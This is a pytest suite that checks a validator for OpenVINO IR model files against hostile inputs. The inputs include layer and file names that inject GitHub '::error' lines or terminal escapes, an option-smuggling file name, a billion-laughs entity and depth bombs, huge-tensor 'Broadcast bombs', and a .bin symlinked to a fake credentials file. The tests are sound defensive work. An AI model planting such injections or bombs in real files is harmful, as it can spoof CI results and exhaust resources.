    """Parameter [2,3] -> Relu ``name`` declared [2,4] -> Result: --fix writes 3."""
    port = '<port id="{}" precision="FP32"><dim>2</dim><dim>{}</dim></port>'
    return ('<?xml version="1.0"?>\n<net name="n" version="11">\n<layers>\n'
            f'<layer id="0" name="{name}" type="Parameter" version="opset1"><data shape="2,3" '
            f'element_type="f32"/>\n<output>{port.format(0, 3)}</output>\n</layer>\n'
            f'<layer id="1" name="{name}" type="Relu" version="opset1">\n<input>'
            f'{port.format(0, 3)}</input>\n<output>{port.format(1, 4)}</output>\n</layer>\n'
            f'<layer id="2" name="out" type="Result" version="opset1">\n<input>'
            f'{port.format(0, 4)}</input>\n</layer>\n</layers>\n<edges>\n'
            '<edge from-layer="0" from-port="0" to-layer="1" to-port="0"/>\n'
            '<edge from-layer="1" from-port="1" to-layer="2" to-port="0"/>\n</edges>\n</net>\n')


@pytest.mark.parametrize("fmt", ["text", "concise", "github"])
def test_names_cannot_inject_commands_or_escapes(fmt, tmp_path, capsys):
    """Issue 24, 9: a layer name with a line break printed a real ``::error`` line in the
    text report, and a file name's ESC and OSC sequences reached the terminal raw."""
    path = tmp_path / INJECTING_FILE
    path.write_text(hostile_ir(add_name=f' name="{INJECTING_NAME}"'))
    run = run_main(["--format", fmt, "-v", path], capsys)
    check_clean_run(run, fmt, fmt)
    assert "IRV102" in run.out and "INJECTED" in run.out and "pwned" in run.out
    own = ("::group::", "::endgroup::", "::error file=") if fmt == "github" else ()
    assert not acted_on(run.out + run.err, own), acted_on(run.out + run.err, own)
    assert not [line for line in run.out.split("\n") if line.startswith("::error file=evil")]


def test_names_cannot_inject_in_diff_fix_shapes_reshapeable(tmp_path, capsys):
    """Issue 24, 9: --diff, --fix's notes, ``shapes``, ``reshapeable`` and ``inspect`` print file and
    layer names too; the patch still applies (git reads its C-quoted names back)."""
    path = tmp_path / INJECTING_FILE
    path.write_text(fixable_ir(INJECTING_NAME))
    runs = {"diff": run_main(["--diff", path], capsys),
            "shapes": run_main(["shapes", path], capsys),
            "reshapeable": run_main(["reshapeable", path], capsys),
            "inspect": run_main(["inspect", path], capsys)}
    runs["fix"] = run_main(["--fix", path], capsys)  # (last: it rewrites the file)
    for what, run in runs.items():
        assert run.rc in (0, 1), (what, run.rc, run.err)
        assert not acted_on(run.out + run.err), (what, acted_on(run.out + run.err))
    assert "INJECTED" in runs["shapes"].out and "INJECTED" in runs["reshapeable"].out
    assert "INJECTED" in runs["inspect"].out
    assert "declared [2,4]" in runs["shapes"].out and "Fixed 1 problem" in runs["fix"].err
    git = shutil.which("git")
    if git:  # the patch, names quoted, applies to the original
        original = tmp_path / "repo" / INJECTING_FILE
        original.parent.mkdir()
        original.write_text(fixable_ir(INJECTING_NAME))
        patch = runs["diff"].out.replace(str(tmp_path).lstrip("/") + "/", "")
        subprocess.run([git, "apply", "-p1", "-"], input=patch.encode(), check=True,
                       cwd=original.parent)
        assert original.read_text() == path.read_text()


def test_names_cannot_inject_in_file_listings(tmp_path, capsys):
    """--show-files lists names, and a --reshape that does not fit lists each file's inputs:
    escaped as the reports are."""
    folder = tmp_path / "models"
    folder.mkdir()
    (folder / INJECTING_FILE).write_text(fixable_ir(INJECTING_NAME))
    runs = [run_main(["--show-files", folder], capsys),
            run_main(["--reshape", "nosuchinput[1]", folder], capsys)]
    assert runs[0].rc == 0 and "pwned" in runs[0].out, runs[0]
    assert runs[1].rc == 2 and "INJECTED" in runs[1].err, runs[1]
    for run in runs:
        assert not acted_on(run.out + run.err), acted_on(run.out + run.err)


# --------------------------------------------------------------------------------------------
# 2. broken files
# --------------------------------------------------------------------------------------------

def _garbage(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


BROKEN_BYTES = {
    "empty": b"",
    "whitespace-only": b" \n\t\n",
    "declaration-only": b'<?xml version="1.0"?>\n',
    "bom-only": b"\xef\xbb\xbf",
    "nul-bytes": b"\0" * 4096,
    "random-binary": _garbage(1, 65536),
    "random-binary-after-net": b'<net version="11">' + _garbage(2, 65536),
    "png-header": b"\x89PNG\r\n\x1a\n" + _garbage(3, 1024),
    "gzipped-ir": gzip.compress(GENUINE.read_bytes(), mtime=0),
    "text-not-xml": b"version: 11\nlayers: []\n",
    "unclosed-root": b'<?xml version="1.0"?>\n<net name="x" version="11">\n<layers>\n',
    "two-roots": GENUINE.read_bytes() + b"<net version='11'/>\n",
    "unknown-encoding": GENUINE.read_bytes().replace(b'<?xml version="1.0"?>',
                                                     b'<?xml version="1.0" encoding="x-evil-42"?>'),
    "invalid-utf8-in-name": GENUINE.read_bytes().replace(b'name="a"', b'name="\xff\xc3\x28"', 1),
    "invalid-utf8-in-text": GENUINE.read_bytes().replace(b"<dim>5</dim>", b"<dim>5\xfe</dim>", 1),
    "overlong-utf8": GENUINE.read_bytes().replace(b'name="a"', b'name="\xc0\xaf"', 1),
    "utf8-declared-latin1-bytes": GENUINE.read_bytes().replace(b'name="a"', b'name="\xe9t\xe9"', 1),
    "control-character": GENUINE.read_bytes().replace(b'name="a"', b'name="&#27;[31m"', 1),
}


@pytest.mark.parametrize("name", sorted(BROKEN_BYTES))
def test_broken_bytes_are_unreadable_xml(name, tmp_path, capsys):
    path = tmp_path / "model.xml"
    path.write_bytes(BROKEN_BYTES[name])
    found = assess(path, capsys)
    assert "IRV001" in found.codes, found.findings
    assert found.codes <= {"IRV001"}, "nothing else is checked in an unreadable file"


@pytest.mark.parametrize("percent", range(0, 100, 10))
def test_truncated_genuine_ir(percent, tmp_path, capsys):
    data = GENUINE.read_bytes()
    path = tmp_path / "model.xml"
    path.write_bytes(data[:len(data) * percent // 100])
    (tmp_path / "model.bin").write_bytes(GENUINE.with_suffix(".bin").read_bytes())
    found = assess(path, capsys)
    assert found.codes == {"IRV001"}, found.findings


def test_truncated_at_every_37th_byte(tmp_path, capsys):
    data = GENUINE.read_bytes()
    body = data.rstrip()
    path = tmp_path / "model.xml"
    for cut in list(range(0, len(body), 37)) + [len(body) - 1]:
        path.write_bytes(data[:cut])
        run = run_main(["--format", "json", path], capsys)
        check_clean_run(run, "json", f"cut at byte {cut}")
        assert {f["rule"] for f in json.loads(run.out)["files"][0]["findings"]} == {"IRV001"}, cut
    path.write_bytes(body)  # the whole document without its final newline is complete
    assert run_main([path], capsys).rc == 0


UTF16_LIKE = {
    "utf-16-bom": lambda t: t.encode("utf-16"),
    "utf-16-bom-declared": lambda t: t.replace('<?xml version="1.0"?>',
                                               '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16"),
    "utf-16-be-bom": lambda t: b"\xfe\xff" + t.encode("utf-16-be"),
    "utf-8-bom": lambda t: b"\xef\xbb\xbf" + t.encode(),
    "utf-32-bom": lambda t: t.encode("utf-32"),
}


@pytest.mark.parametrize("encoding", sorted(UTF16_LIKE))
def test_bom_encodings_agree_with_openvino(encoding, tmp_path, capsys):
    """OpenVINO's reader (pugixml) detects these encodings from the BOM and loads the model.
    irvalidate must then give the verdict it gives the UTF-8 file, or say clearly that it
    refuses the encoding: a file OpenVINO loads must not pass as unreadable garbage."""
    ov = pytest.importorskip("openvino")
    (tmp_path / "ref").mkdir()
    reference = tmp_path / "ref" / "model.xml"
    reference.write_bytes(GENUINE.read_bytes())
    (tmp_path / "ref" / "model.bin").write_bytes(GENUINE.with_suffix(".bin").read_bytes())
    path = tmp_path / "model.xml"
    path.write_bytes(UTF16_LIKE[encoding](GENUINE.read_text(encoding="utf-8")))
    (tmp_path / "model.bin").write_bytes(GENUINE.with_suffix(".bin").read_bytes())
    try:
        ov.Core().read_model(str(path))
        openvino_reads = True
    except Exception:  # noqa: BLE001 - whatever OpenVINO raises, it refuses the file
        openvino_reads = False
    found = assess(path, capsys, formats=("json", "text"))
    expected = {f["rule"] for f in assess(reference, capsys, formats=("json",)).findings}
    if openvino_reads and found.codes != expected:
        assert "IRV001" in found.codes and any(
            re.search(r"encod|UTF|BOM", m, re.I) for m in found.messages("IRV001")), (
            f"OpenVINO reads the {encoding} file; irvalidate neither agrees ({found.codes} vs "
            f"{expected}) nor names the encoding: {found.messages()}")
    if not openvino_reads:
        assert "IRV001" in found.codes


@pytest.mark.parametrize("root", [
    "<project><modelVersion>4</modelVersion></project>",
    '<Net version="11"><layers/><edges/></Net>',
    '<wrapper><net version="11"><layers/><edges/></net></wrapper>',
    '<x:net xmlns:x="http://example.com/x" version="11"><layers/><edges/></x:net>',
    '<svg xmlns="http://www.w3.org/2000/svg"/>',
], ids=["pom", "capitalised", "wrapped", "prefixed", "svg"])
def test_root_that_is_not_net(root, tmp_path, capsys):
    path = tmp_path / "model.xml"
    path.write_text('<?xml version="1.0"?>\n' + root + "\n")
    found = assess(path, capsys)
    assert found.codes == {"IRV002"} and found.has("IRV002", r"<net>")


def test_default_namespace_root_is_not_skipped(tmp_path, capsys):
    """``<net xmlns="...">``: OpenVINO's reader ignores namespaces and loads the model, so a
    directory scan or ``--skip-non-ir`` (the pre-commit hook) must not skip it silently: a
    broken model in it must not pass the gate with exit 0."""
    ov = pytest.importorskip("openvino")
    (tmp_path / "ok").mkdir()
    fine = tmp_path / "ok" / "model.xml"
    fine.write_text(GENUINE.read_text().replace("<net name", '<net xmlns="http://example.com/ir" name', 1))
    fine.with_suffix(".bin").write_bytes(GENUINE.with_suffix(".bin").read_bytes())
    ov.Core().read_model(str(fine))  # OpenVINO loads it as an IR
    (tmp_path / "bad").mkdir()
    path = tmp_path / "bad" / "model.xml"
    path.write_text(hostile_ir().replace("<net name", '<net xmlns="http://example.com/ir" name', 1))
    named = assess(path, capsys, formats=("json",))
    assert named.codes - {"IRV002"} or not named.has("IRV002", r"not an OpenVINO IR"), (
        f"OpenVINO reads this file as an IR; irvalidate says it is not one: {named.messages()}")
    for args in ([tmp_path / "bad"], ["--skip-non-ir", path]):
        run = run_main(["--format", "json", *args], capsys)
        check_clean_run(run, "json", f"{args}")
        assert run.rc == 1, f"irvalidate {' '.join(map(str, args))}: exit {run.rc}, the broken " \
                            f"model was skipped as not an IR"


@pytest.mark.parametrize("name", ["line\nbreak.xml", "comma,colon:pct%.xml", "--format.xml",
                                  "sp ace\t[x]*?.xml", "-q.xml"])
def test_strange_file_names(name, tmp_path, capsys, monkeypatch):
    """Git stores any bytes in a file name: a model with a strange name is still validated,
    named in every format, and not skipped by a directory scan.  Passed bare, as the
    pre-commit hook passes staged files, a name that looks like an option must not make
    the broken model pass (exit 0)."""
    models = tmp_path / "models"
    models.mkdir()
    xml = models / name
    xml.write_text(hostile_ir())
    found = assess(xml, capsys)
    assert "IRV102" in found.codes
    github = found.runs["github"].out.splitlines()
    assert all(line.startswith(("::", "Found ")) for line in github), github
    run = run_main(["--format", "json", models], capsys)
    assert run.rc == 1 and [f["path"] for f in json.loads(run.out)["files"]] == [str(xml)]
    before = snapshot(models)
    monkeypatch.chdir(models)
    run = run_main(["--skip-non-ir", name], capsys)
    assert run.rc in (1, 2), f"irvalidate --skip-non-ir {name!r}: exit {run.rc}"
    assert snapshot(models) == before


def test_output_option_never_overwrites_an_input(tmp_path, capsys, monkeypatch):
    """A staged file named ``--output=model.xml`` reaches the hook as an option: the report
    must not overwrite the model it validates (refusing, exit 2, is fine)."""
    models = tmp_path / "models"
    models.mkdir()
    model = GENUINE.read_bytes()
    (models / "model.xml").write_bytes(model)
    (models / "model.bin").write_bytes(GENUINE.with_suffix(".bin").read_bytes())
    (models / "--output=model.xml").write_text(hostile_ir())
    monkeypatch.chdir(models)
    for args in (["--skip-non-ir", "--output=model.xml", "model.xml"],
                 ["--output", "model.bin", "model.xml"],
                 ["--output", str(models / "model.xml"), str(models)]):
        run = run_main(args, capsys)
        assert (models / "model.xml").read_bytes() == model, f"irvalidate {args} overwrote model.xml"
        assert (models / "model.bin").read_bytes() == GENUINE.with_suffix(".bin").read_bytes(), \
            f"irvalidate {args} overwrote model.bin"
        assert run.rc in (0, 2), run


def test_non_utf8_file_name(tmp_path):
    """A name that is not UTF-8 (Latin-1 bytes): run for real, since how the output stream
    copes with the undecodable bytes is part of the behaviour."""
    models = tmp_path / "models"
    models.mkdir()
    xml = Path(os.fsdecode(os.path.join(os.fsencode(models), b"\xff\xfe-latin1-\xe9.xml")))
    xml.write_text(hostile_ir())
    problems = []
    runs = [(fmt, [f"--format={fmt}", xml]) for fmt in FORMATS] + [("json", ["--format=json", models])]
    for i, (fmt, args) in enumerate(runs):
        proc = run_python_m(args, tmp_path / f"proc{i}")
        what = f"--format={fmt} {'<dir>' if args[-1] == models else '<file>'}"
        crashes = internal_errors(fmt, proc.out) if proc.rc in (0, 1) else []
        if proc.rc != 1 or crashes:
            detail = proc.err.strip()[-300:] or (crashes[0][-300:] if crashes else proc.out[:300])
            problems.append(f"{what}: exit {proc.rc}: {detail}")
        elif args[-1] == models and '"files": 1' not in proc.out:
            problems.append(f"{what}: the directory scan skipped the file")
    assert not problems, "\n".join(problems)


def test_directory_scan_reports_unreadable_models(tmp_path, capsys):
    """A directory scan skips well-formed XML whose root is not <net> (pom.xml), but a
    model.xml that cannot be parsed up to its root element (empty, garbage, a broken DTD,
    UTF-32) must be reported as --skip-non-ir reports it, or CI passes it with exit 0."""
    broken = {"empty.xml": b"", "garbage.xml": _garbage(9, 512),
              "broken-prolog.xml": hostile_ir("<!DOCTYPE net [<!ENTITY % x '<'> %x;]>").encode(),
              "utf32.xml": GENUINE.read_text().encode("utf-32")}
    for name, data in broken.items():
        (tmp_path / name).write_bytes(data)
        (tmp_path / name).with_suffix(".bin").write_bytes(b"\0" * 8)
    (tmp_path / "pom.xml").write_text("<project/>")
    named = run_main(["--format", "json", "--skip-non-ir", *sorted(tmp_path.glob("*.xml"))], capsys)
    reported_named = {Path(f["path"]).name for f in json.loads(named.out)["files"]}
    scan = run_main(["--format", "json", tmp_path], capsys)
    check_clean_run(scan, "json", "directory scan")
    reported = {Path(f["path"]).name for f in json.loads(scan.out)["files"]}
    assert reported_named == set(broken) and named.rc == 1
    assert reported == reported_named and scan.rc == 1, \
        f"the directory scan skipped {sorted(set(broken) - reported)} silently"


@pytest.mark.parametrize("version", ["9", "12", "", "abc", "-11", "1" * 5000, "1e400", "11.5",
                                     None])
def test_unknown_ir_version(version, tmp_path, capsys):
    text = hostile_ir()
    text = text.replace(' version="11"', "" if version is None else f' version="{version}"', 1)
    path = tmp_path / "model.xml"
    path.write_text(text)
    found = assess(path, capsys)
    assert "IRV003" in found.codes or (version is None and "IRV005" in found.codes), found.findings


@pytest.mark.parametrize("dim", ["9" * 40, "-5", "-2", "abc", "1..8", "", "  ", "0x5", "5.0",
                                 "1e1", "9" * 5000, "9" * 100_000, "\uff15", "\u0665", "1_0"],
                         ids=["40-nines", "-5", "-2", "abc", "interval", "empty", "blank", "hex",
                              "float", "exponent", "5000-digits", "100k-digits",
                              "fullwidth-digit", "arabic-indic-digit", "underscore"])
def test_bad_port_dim_is_malformed(dim, tmp_path, capsys):
    """A <dim> OpenVINO cannot read as an int64 >= -1 is IRV004 and says what the text was;
    the message stays short however long the text.  Python's int() also accepts other
    scripts' digits and underscores, which OpenVINO does not."""
    path = tmp_path / "model.xml"
    path.write_text(hostile_ir(y_dim=dim))
    found = assess(path, capsys)
    assert found.has("IRV004", r"<dim>"), found.findings
    assert "IRV102" in found.codes  # the rest of the file is still analysed


def test_empty_dim_element(tmp_path, capsys):
    path = tmp_path / "model.xml"
    path.write_text(hostile_ir().replace("<dim>4</dim>", "<dim/>", 1))
    found = assess(path, capsys)
    assert found.has("IRV004", r"<dim>")


@pytest.mark.parametrize("shape", ["9" * 5000, "1.." + "9" * 5000, "-5", "abc", "1,,2",
                                   ",".join(["1"] * 100_000)],
                         ids=["5000-digits", "interval-5000-digits", "negative", "abc",
                              "empty-dim", "rank-100k"])
def test_hostile_parameter_shape_attribute(shape, tmp_path, capsys):
    path = tmp_path / "model.xml"
    path.write_text(hostile_ir().replace('shape="4"', f'shape="{shape}"', 1))
    found = assess(path, capsys, formats=("json", "text"))
    assert found.codes  # reported somehow, without crashing; messages short


def _chain(n: int, op: str = "Relu") -> IR:
    ir = IR()
    prev = ir.parameter("2")
    for _ in range(n):
        prev = ir.op(op, [prev], [[2]])
    ir.result(prev)
    return ir


def test_cycle(tmp_path, capsys):
    ir = _chain(3)
    ir.edges[0] = ("3", "1", "1", "0")  # relu3 -> relu1 closes relu1 -> relu2 -> relu3
    found = assess(ir.write(tmp_path), capsys)
    assert found.has("IRV210", r"cycle of 3 layer"), found.findings


def test_self_loop(tmp_path, capsys):
    ir = _chain(2)
    ir.edges[1] = ("2", "1", "2", "0")  # relu2 feeds itself
    found = assess(ir.write(tmp_path), capsys)
    assert found.has("IRV210", r"relu2"), found.findings


def test_long_cycle_message_stays_short(tmp_path, capsys):
    n = 10_000
    ir = _chain(n)
    ir.edges[0] = (str(n), "1", "1", "0")
    found = assess(ir.write(tmp_path), capsys, formats=("json",))
    assert found.has("IRV210", rf"cycle of {n} layer"), found.messages("IRV210")


def test_30000_edges_into_one_port(tmp_path, capsys):
    ir = IR()
    x, y = ir.parameter("2"), ir.parameter("2")
    ir.result(ir.op("Add", [x, y], [[2]]))
    ir.edges += [("0", "0", "2", "0")] * 30_000
    found = assess(ir.write(tmp_path), capsys, formats=("json", "text"), max_message=500)
    fed = [m for m in found.messages("IRV208")]
    assert len(fed) == 1 and "30001" in fed[0], fed
    assert len(found.runs["text"].out) < 5000, "the text report lists every edge"


def nested_bodies(levels: int) -> str:
    """TensorIterator layers nested ``levels`` deep, a Parameter -> Result at the bottom."""
    leaf = ('<layer id="0" name="p" type="Parameter" version="opset1"><data shape="1" '
            'element_type="f32"/><output><port id="0" precision="FP32"><dim>1</dim></port>'
            '</output></layer><layer id="1" name="r" type="Result" version="opset1"><input>'
            '<port id="0" precision="FP32"><dim>1</dim></port></input></layer>')
    edges = '<edge from-layer="0" from-port="0" to-layer="1" to-port="0"/>'
    head, tail = [], []
    for k in range(levels):
        head.append(f'<layer id="{2 if k else 0}" name="ti{k}" type="TensorIterator" '
                    f'version="opset1"><body><layers>')
        tail.append(f"</layers><edges>{edges}</edges></body></layer>")
    inner = "".join(head) + leaf + "".join(reversed(tail))
    return (f'<?xml version="1.0"?>\n<net name="deep" version="11"><layers>{inner}</layers>'
            f"<edges/></net>\n")


@pytest.mark.parametrize("levels", [300, 1000])
def test_bodies_nested_too_deep_for_the_parser(levels, tmp_path, capsys):
    path = tmp_path / "model.xml"
    path.write_text(nested_bodies(levels))
    found = assess(path, capsys)
    assert found.has("IRV001", r"depth|deep|nest") or found.has("IRV004", r"nest|deep"), \
        found.findings
    # the limit is said to be irvalidate's parser's: OpenVINO reads 400 nested Loops
    assert found.has("IRV001", r"limit of irvalidate's XML parser.*OpenVINO reads deeper"), \
        found.findings


def nested_loops(levels: int, path: Path) -> Path:
    """``levels`` Loops, each the body of the one outside it, a Relu at the bottom: written
    by openvino's serializer."""
    import numpy as np
    ov = pytest.importorskip("openvino")
    import openvino.opset13 as ops

    def loop_of(value, depth: int):
        p = ops.parameter([1], np.float32)
        inner = ops.relu(p) if depth == 0 else loop_of(p.output(0), depth - 1)
        body = ov.Model([ops.result(ops.constant(np.array(True))), ops.result(inner)], [p])
        loop = ops.loop(ops.constant(np.array(1, dtype=np.int64)), ops.constant(np.array(True)))
        loop.set_function(body)
        loop.set_special_body_ports([-1, 0])
        loop.set_invariant_input(body.get_parameters()[0], value)
        return loop.get_iter_value(body.get_results()[1].output(0), -1)

    x = ops.parameter([1], np.float32, name="x")
    ov.save_model(ov.Model([loop_of(x.output(0), levels - 1)], [x]), str(path),
                  compress_to_fp16=False)
    return path


def test_80_nested_loops_are_not_said_to_lack_a_body(tmp_path, capsys):
    """Issue 24 (minor): 80 nested Loops, which OpenVINO loads (400 do too), got IRV004 and a
    false IRV216 'the layer has no <body>' for the Loop past irvalidate's limit of 64; now the
    one IRV004 says that the limit is irvalidate's and what is not checked."""
    ov = pytest.importorskip("openvino")
    path = nested_loops(80, tmp_path / "loops.xml")
    ov.Core().read_model(str(path))  # the runtime loads it
    found = assess(path, capsys, formats=("json", "text"))
    assert found.codes == {"IRV004"}, found.findings
    [message] = found.messages("IRV004")
    assert "irvalidate's limit (OpenVINO reads deeper)" in message and "not checked" in message


def test_bodies_nested_deeper_than_the_validator_follows(tmp_path, capsys):
    path = tmp_path / "model.xml"
    path.write_text(nested_bodies(70))
    found = assess(path, capsys)
    assert found.has("IRV004", r"nested more than \d+ levels"), found.findings


def test_bodies_nested_60_levels_are_analysed(tmp_path, capsys):
    path = tmp_path / "model.xml"
    path.write_text(nested_bodies(60))
    found = assess(path, capsys)
    assert not found.has("IRV004", r"nested"), found.findings


# --- the .bin -------------------------------------------------------------------------------

def broadcast_ir(values=(2, 3), declared=(2, 3), **const) -> IR:
    """Broadcast-3 numpy of a [1] Parameter to a constant target read from the .bin."""
    ir = IR()
    x = ir.parameter("1")
    target = ir.const(list(values), **const)
    ir.result(ir.op("Broadcast", [x, target], [list(declared)], {"mode": "numpy"},
                    version="opset3"))
    return ir


def test_missing_bin(tmp_path, capsys):
    path = broadcast_ir().write(tmp_path, with_bin=False)
    found = assess(path, capsys)
    assert found.has("IRV204", r"does not exist") and found.runs["json"].rc == 1  # the runtime refuses it


def test_bin_is_a_directory(tmp_path, capsys):
    path = broadcast_ir().write(tmp_path, with_bin=False)
    path.with_suffix(".bin").mkdir()
    (path.with_suffix(".bin") / "inner").write_bytes(b"\0" * 16)
    found = assess(path, capsys)
    assert found.has("IRV204", r"not a regular file")


def test_bin_is_a_symlink_to_a_device(tmp_path, capsys):
    path = broadcast_ir().write(tmp_path, with_bin=False)
    path.with_suffix(".bin").symlink_to("/dev/zero")
    found = assess(path, capsys)
    assert found.has("IRV204", r"not a regular file")


def test_bin_is_a_symlink_loop(tmp_path, capsys):
    path = broadcast_ir().write(tmp_path, with_bin=False)
    path.with_suffix(".bin").symlink_to(path.with_suffix(".bin"))
    found = assess(path, capsys)
    assert "IRV204" in found.codes


def test_bin_is_a_fifo(tmp_path):
    (tmp_path / "in").mkdir()
    path = broadcast_ir().write(tmp_path / "in", with_bin=False)
    os.mkfifo(path.with_suffix(".bin"))
    proc = run_python_m(["--format", "json", path], tmp_path / "proc", timeout=20)
    report = check_proc(proc, "fifo .bin")
    assert "IRV204" in codes_of(report)


def test_bin_symlinked_outside_the_model_does_not_leak(tmp_path, capsys, secrets):
    """model.bin -> a file outside the repository (a committed symlink): its bytes, decoded
    as a Broadcast target, must not be printed in the report.  (Outside a git work tree
    such a link is followed, as the runtime follows it: tests/test_bin_links.py.)"""
    (tmp_path / ".git").mkdir()
    secret_bin = secrets / "credentials.bin"
    secret_bin.write_bytes(b"\x2a\x2b\x2c\x2d\x2e\x2f\x30\x31" + b"hunter2-" * 4)
    secret_dims = ",".join(str(b) for b in secret_bin.read_bytes()[:6])
    path = broadcast_ir(values=(0,) * 6, declared=(1,), et="u8").write(tmp_path, with_bin=False)
    path.with_suffix(".bin").symlink_to(secret_bin)
    found = assess(path, capsys, watch=[secrets])
    for run in found.runs.values():
        assert secret_dims not in re.sub(r"\s", "", run.out), \
            "bytes of a file outside the model's directory were printed"


def test_bin_too_short(tmp_path, capsys):
    ir = broadcast_ir()
    path = ir.write(tmp_path)
    path.with_suffix(".bin").write_bytes(bytes(ir.weights[:4]))
    found = assess(path, capsys)
    assert found.has("IRV203", r"lie outside model\.bin"), found.findings


def test_bin_empty(tmp_path, capsys):
    path = broadcast_ir().write(tmp_path)
    path.with_suffix(".bin").write_bytes(b"")
    found = assess(path, capsys)
    assert found.has("IRV203", r"lie outside model\.bin"), found.findings


CONST_ATTRS = {  # attributes -> (codes one of which must be found, what its message says)
    "negative-size": (dict(size="-5"), {"IRV203"}, r"negative"),
    "negative-offset": (dict(offset="-1"), {"IRV203"}, r"negative"),
    "size-1e30": (dict(size=str(10 ** 30)), {"IRV203"}, r"outside"),
    "offset-1e30": (dict(offset=str(10 ** 30)), {"IRV203"}, r"outside"),
    "offset-and-size-4300-digits": (dict(offset="9" * 4300, size="9" * 4300), {"IRV203"}, r""),
    "offset-5000-digits": (dict(offset="9" * 5000), {"IRV203"}, r""),
    "size-not-a-number": (dict(size="abc"), {"IRV203"}, r"malformed|size"),
    "offset-empty": (dict(offset=""), {"IRV203"}, r"malformed|offset"),
    # OpenVINO refuses these ("stoll", "not an unsigned", "Cannot parse"); Python's int() does not
    "offset-fullwidth-digit": (dict(offset="\uff10"), {"IRV203", "IRV004"}, r"offset|\uff10"),
    "size-underscore": (dict(size="1_6"), {"IRV203", "IRV004"}, r"size|1_6"),
    "shape-fullwidth-digit": (dict(shape="\uff12"), {"IRV203", "IRV004"}, r"shape|\uff12"),
    "shape-product-huge": (dict(shape=",".join(["9223372036854775807"] * 300)), {"IRV203"}, r""),
    "shape-rank-100k": (dict(shape=",".join(["1"] * 100_000), size="0"), {"IRV203"}, r""),
    "shape-interval": (dict(shape="1..8"), {"IRV203"}, r"static"),
    # OpenVINO: "Attribute and shape size are inconsistent"
    "shape-negative": (dict(shape="-5"), {"IRV203", "IRV215"}, r""),
    "element-type-unknown": (dict(element_type="evil64"), {"IRV203"}, r"element_type"),
}


@pytest.mark.parametrize("case", sorted(CONST_ATTRS))
def test_invalid_constant_attributes(case, tmp_path, capsys):
    attrs, codes, says = CONST_ATTRS[case]
    ir = broadcast_ir()
    ir.layers[1].data.update(attrs)
    found = assess(ir.write(tmp_path), capsys, formats=("json", "text"))
    assert any(found.has(code, says) for code in codes), found.findings


def _sparse_bin(path: Path, size: int) -> None:
    with open(path, "r+b" if path.exists() else "wb") as handle:
        handle.truncate(size)


BROADCAST_BOMBS = ["target-values-1e18", "target-5M-elements-with-bin", "target-5M-elements-no-bin",
                   "target-65536-elements", "target-parameter-1e9", "target-parameter-5M",
                   "axes-mapping-5M-elements", "axes-mapping-values-1e18",
                   "bidirectional-target-5M", "pdpd-target-5M",
                   "const-size-1GiB-sparse-bin"]


def build_broadcast_bomb(case: str, directory: Path) -> Path:
    """A Broadcast whose constants or shape operands declare enormous tensors; none may ever
    be allocated."""
    directory.mkdir(parents=True, exist_ok=True)
    ir = IR()
    x = ir.parameter("1")
    mode, inputs, declared, with_bin, bin_size = "numpy", None, [1, 2], True, None
    if case == "target-values-1e18":
        inputs = [x, ir.const([10 ** 18, 2])]
    elif case.startswith("target-5M-elements"):
        inputs = [x, ir.const([1, 2], shape=[5_000_000], size=40_000_000)]
        with_bin, bin_size = case.endswith("with-bin"), 40_000_000
    elif case == "target-65536-elements":
        inputs = [x, ir.const([1] * 65536)]
    elif case.startswith("target-parameter"):
        n = 1_000_000_000 if case.endswith("1e9") else 5_000_000
        inputs = [x, ir.parameter(str(n), et="i64")]
    elif case.startswith("axes-mapping"):
        mode = "explicit"
        if case.endswith("5M-elements"):
            axes = ir.const([0], shape=[5_000_000], size=40_000_000)
            bin_size = 40_000_000 + 64
        else:
            axes = ir.const([10 ** 18])
        inputs = [x, ir.const([2, 3]), axes]
        declared = [2, 3]
    elif case in ("bidirectional-target-5M", "pdpd-target-5M"):
        mode = case.split("-")[0]
        inputs = [x, ir.parameter("5000000", et="i64")]
    elif case == "const-size-1GiB-sparse-bin":
        inputs = [x, ir.const([1, 2], size=1 << 30)]
        bin_size = 1 << 30
    ir.result(ir.op("Broadcast", inputs, [declared], {"mode": mode}, version="opset3"))
    path = ir.write(directory, with_bin=with_bin)
    if with_bin and bin_size:
        _sparse_bin(path.with_suffix(".bin"), max(bin_size, len(ir.weights)))
    return path


@pytest.mark.parametrize("case", BROADCAST_BOMBS)
def test_broadcast_with_enormous_shapes_allocates_nothing(case, tmp_path):
    path = build_broadcast_bomb(case, tmp_path / "in")
    before = snapshot(path.parent)
    proc = run_python_m(["--format", "json", path], tmp_path / "proc", timeout=40)
    report = check_proc(proc, case)
    assert report["files"][0]["findings"] or case == "const-size-1GiB-sparse-bin"
    if case == "target-values-1e18":
        assert any("1000000000000000000" in f["message"] for f in report["files"][0]["findings"]
                   if f["rule"] == "IRV101")
    if case == "axes-mapping-values-1e18":
        assert "IRV102" in codes_of(report)
    assert snapshot(path.parent) == before


# --------------------------------------------------------------------------------------------
# 3. isolation
# --------------------------------------------------------------------------------------------

HOSTILE_FOR_ISOLATION = {
    "h-empty.xml": b"",
    "h-garbage.xml": _garbage(7, 4096),
    "h-truncated.xml": GENUINE.read_bytes()[:700],
    "h-billion-laughs.xml": hostile_ir(LAUGHS, x_name="&lol9;").encode(),
    "h-depth-bomb.xml": hostile_ir(data_inner=BOMB).encode(),
    "h-bad-dims.xml": hostile_ir(y_dim="-5").encode(),
}


def isolation_set(directory: Path) -> list[Path]:
    """20 files: 12 genuine valid IRs, 2 broken ones, 6 hostile or broken."""
    directory.mkdir(parents=True, exist_ok=True)
    chosen = sorted((SAMPLES / "valid").glob("*.xml"))[:12] + [
        SAMPLES / "broken" / "IRV102-incompatible-inputs.xml",
        SAMPLES / "broken" / "IRV201-edge-shape-mismatch.xml"]
    files = []
    for src in chosen:
        dst = directory / src.name
        dst.write_bytes(src.read_bytes())
        if src.with_suffix(".bin").exists():
            dst.with_suffix(".bin").write_bytes(src.with_suffix(".bin").read_bytes())
        files.append(dst)
    for name, data in HOSTILE_FOR_ISOLATION.items():
        (directory / name).write_bytes(data)
        files.append(directory / name)
    rng = random.Random(20)
    rng.shuffle(files)
    return files


def test_one_run_over_many_files_isolates_the_bad_ones(tmp_path, capsys):
    files = isolation_set(tmp_path / "models")
    assert len(files) == 20
    alone = {}
    for path in files:
        run = run_main(["--format", "json", path], capsys)
        alone[str(path)] = json.loads(run.out)["files"][0]["findings"]
    before = snapshot(tmp_path / "models")
    run = run_main(["--format", "json", *files], capsys)
    check_clean_run(run, "json", "20 files")
    assert run.rc == 1
    report = json.loads(run.out)
